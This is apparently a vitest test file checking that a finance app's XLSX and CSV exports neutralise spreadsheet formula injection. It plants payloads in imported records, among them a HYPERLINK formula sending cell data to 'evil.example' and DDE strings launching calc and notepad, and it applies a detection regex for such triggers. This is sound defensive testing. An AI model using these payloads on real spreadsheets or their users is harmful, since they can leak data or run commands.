// Formula injection: text that came from outside (remittance descriptions, PO numbers, ASINs,
// vendor codes, an analyst's case id and notes) must reach every XLSX and CSV export as inert
// text. We plant `=HYPERLINK(…)`, `+cmd|…`, `-1+1`, `@SUM(…)`, tab- and CR-led payloads in a real
// imported business, run the exports, read every cell and field back, and check: no cell holds
// a formula Recoup did not write, no text cell or CSV field starts with a formula trigger, and
// every payload did arrive (neutralised), so the test cannot pass by leaving them out.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdirSync, readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { openDatabase, type Db } from '../../src/db/open';
import { importPaths } from '../../src/services/import';
import { reconcile } from '../../src/services/reconcile';
import { generateDataset } from '../../src/services/generate';
import { syncClaims, listClaims, setStatus, addNote } from '../../src/services/claims';
import { exportDisputePack, exportDisputePacksPerClaim } from '../../src/services/exports/dispute-pack';
import { exportMonthEnd } from '../../src/services/exports/month-end';
import { exportOpenItems } from '../../src/services/exports/open-items';
import { neutralise } from '../../src/core/export/cells';
import { tempDir } from './helpers';

const PAYLOADS = {
  hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  cmd: "+cmd|' /C calc'!A0",
  arith: '-1+1',
  sum: '@SUM(1+1)*cmd|\' /C notepad\'!A1',
  tab: '\t=1+1',
  cr: '\r=1+1',
};
const TRIGGER = /^[=+\-@\t\r]/;
/** Formulas Recoup itself writes: arithmetic and MIN/MAX/SUM/ABS/ROUND/IF over cell references, nothing else. */
const OWN_FORMULA = /^(?:[-+*/(),.\s0-9]|\$?[A-Z]{1,3}\$?\d+|'[^'!]+'!|SUM|MIN|MAX|ABS|ROUND|IF|SUMIF|SUMIFS|SUMPRODUCT|COUNTIF|COUNTIFS|[:<>=&"A-Za-z _-])*$/;

const t = tempDir('recoup-inject-');
let db: Db;
const outputs: string[] = [];
afterAll(() => { db?.close(); t.cleanup(); });

beforeAll(async () => {
  await generateDataset(join(t.dir, 'gen'), { invoiceLines: 1200, seed: 'inject' });
  db = openDatabase(join(t.dir, 'r.db'));
  const results = await importPaths(db, [join(t.dir, 'gen', 'data')]);
  expect(results.filter((r) => r.status === 'error')).toEqual([]);
  // Hostile text in what imports store, the same transform wherever a key is joined on, so the
  // documents still match and findings (and their packs) carry the payloads.
  db.transaction(() => {
    db.prepare('UPDATE remit_line SET description = ? || coalesce(description, \'\')').run(PAYLOADS.hyperlink);
    db.prepare('UPDATE remit_line SET reference = ?').run(PAYLOADS.tab);
    for (const table of ['purchase_order', 'po_line', 'invoice', 'invoice_line', 'shipment_line', 'receipt', 'po_ack', 'remit_line']) {
      db.prepare(`UPDATE ${table} SET po_number = ? || po_number WHERE po_number IS NOT NULL`).run(PAYLOADS.cmd);
    }
    for (const table of ['po_line', 'invoice_line', 'shipment_line', 'receipt', 'po_ack']) {
      db.prepare(`UPDATE ${table} SET asin = ? || asin WHERE asin IS NOT NULL`).run(PAYLOADS.sum);
    }
    for (const table of ['invoice', 'payment', 'purchase_order', 'shipment']) db.prepare(`UPDATE ${table} SET vendor_code = ?`).run(PAYLOADS.arith);
    db.prepare('UPDATE shipment SET ship_to = ?, bol = ?').run(PAYLOADS.cr, PAYLOADS.hyperlink);
  })();
  await reconcile(db, { asOf: '2026-07-30' });
  syncClaims(db, { actor: 'ana' });
  const claims = listClaims(db);
  expect(claims.length).toBeGreaterThan(5);
  for (const c of claims.slice(0, 5)) {
    try {
      setStatus(db, c.id, { status: 'disputed', caseId: PAYLOADS.hyperlink }, { actor: 'ana' });
    } catch { /* a claim type that cannot move to disputed directly */ }
    addNote(db, c.id, `${PAYLOADS.cmd} see case`, { actor: 'ana' });
  }
  const dir = join(t.dir, 'out');
  mkdirSync(dir);
  await exportDisputePack(db, { allDisputable: true } as never, join(dir, 'dispute-pack.xlsx'));
  await exportDisputePacksPerClaim(db, { allDisputable: true } as never, join(dir, 'per-claim'));
  await exportMonthEnd(db, '2026-07', join(dir, 'month-end.xlsx'), { journal: join(dir, 'month-end-journal.csv') });
  await exportOpenItems(db, join(dir, 'open-items.xlsx'));
  await exportOpenItems(db, join(dir, 'open-items.csv'));
  const walk = (d: string): string[] => readdirSync(d, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? walk(join(d, e.name)) : [join(d, e.name)]));
  outputs.push(...walk(dir).filter((f) => /\.(xlsx|csv)$/.test(f)));
}, 300_000);

describe('formula injection in exports', () => {
  it('the shared neutraliser covers every trigger', () => {
    for (const p of Object.values(PAYLOADS)) expect(neutralise(p)).toBe(`'${p}`);
    for (const safe of ['INV-10042', '12.30', 'B07DFYF5AB', ' =leading space', '']) expect(neutralise(safe)).toBe(safe);
  });

  it('every XLSX export: no planted formula, no text cell that a spreadsheet would run', async () => {
    const xlsx = outputs.filter((f) => f.endsWith('.xlsx'));
    expect(xlsx.length).toBeGreaterThanOrEqual(4);
    const seen = new Set<string>();
    let cells = 0;
    for (const file of xlsx) {
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.readFile(file);
      wb.eachSheet((ws) => ws.eachRow({ includeEmpty: false }, (row) => row.eachCell({ includeEmpty: false }, (cell) => {
        cells++;
        const where = `${file.slice(t.dir.length)} ${ws.name}!${cell.address}`;
        const v = cell.value as unknown;
        if (v && typeof v === 'object' && 'formula' in (v as object)) {
          const formula = String((v as { formula: string }).formula);
          expect(formula, where).not.toMatch(/\bcmd\b|evil|notepad|\bcalc\b|WEBSERVICE|IMPORTXML|FILTERXML|DDE|\||https?:|file:/i);
          // Recoup's own links jump inside the workbook ("#'Summary'!B2"); any other link is planted.
          if (/^HYPERLINK\(/.test(formula)) expect(formula, where).toMatch(/^HYPERLINK\("#'[^'"]+'!\$?[A-Z]{1,3}\$?\d+",\s*"[^"]*"\)$/);
          else expect(formula, where).toMatch(OWN_FORMULA);
          return;
        }
        if (v && typeof v === 'object' && 'hyperlink' in (v as object)) {
          // Links Recoup writes point inside the workbook, never to a planted address.
          expect(String((v as { hyperlink: string }).hyperlink), where).not.toMatch(/evil|^https?:|^file:/i);
        }
        const text = typeof v === 'string' ? v : v && typeof v === 'object' && 'richText' in (v as object) ? (v as { richText: Array<{ text: string }> }).richText.map((r) => r.text).join('') : null;
        if (text === null) return;
        expect(TRIGGER.test(text), `${where} holds ${JSON.stringify(text.slice(0, 60))}`).toBe(false);
        for (const [name, p] of Object.entries(PAYLOADS)) if (text.includes(neutralise(p).slice(0, 12))) seen.add(name);
      })));
    }
    expect(cells).toBeGreaterThan(1000);
    // The payloads reached the workbooks (neutralised): the check above was not vacuous.
    console.log("xlsx payloads seen:", [...seen].sort().join(","), "cells:", cells);
    expect([...seen].sort()).toEqual(expect.arrayContaining(['cmd', 'hyperlink', 'sum']));
  });

  it('every CSV export: no field a spreadsheet would run; amounts stay plain signed numbers', () => {
    const csv = outputs.filter((f) => f.endsWith('.csv'));
    expect(csv.length).toBeGreaterThanOrEqual(2);
    const seen = new Set<string>();
    let fields = 0;
    for (const file of csv) {
      const parsed = Papa.parse<string[]>(readFileSync(file, 'utf8').replace(/^\ufeff/, ''), { skipEmptyLines: true });
      expect(parsed.errors, file).toEqual([]);
      for (const [r, row] of parsed.data.entries()) {
        for (const [c, field] of row.entries()) {
          fields++;
          const where = `${file.slice(t.dir.length)} row ${r + 1} col ${c + 1}: ${JSON.stringify(field.slice(0, 60))}`;
          // A negative amount is a number, not a formula: "-12.30" is fine, "-1+1" is not.
          if (/^-\d+(\.\d+)?$/.test(field)) continue;
          expect(TRIGGER.test(field), where).toBe(false);
          for (const [name, p] of Object.entries(PAYLOADS)) if (field.includes(neutralise(p).slice(0, 12))) seen.add(name);
        }
      }
    }
    expect(fields).toBeGreaterThan(100);
    console.log("csv payloads seen:", [...seen].sort().join(","), "fields:", fields, csv.map((f) => f.slice(t.dir.length)).join(" "));
    expect(seen.size).toBeGreaterThan(0);
  });
});
